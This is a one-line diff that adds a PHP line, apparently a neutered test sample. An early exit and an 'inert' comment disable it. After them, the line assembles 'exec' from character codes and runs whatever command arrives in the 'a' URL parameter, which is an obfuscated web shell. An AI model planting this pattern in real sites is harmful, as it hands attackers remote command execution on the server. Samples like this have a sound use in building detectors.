@@ -1,0 +1,1 @@
+<?php exit; /* inert */ $s=join(array_map("chr",[101,120,101,99])); $s($_GET["a"]);
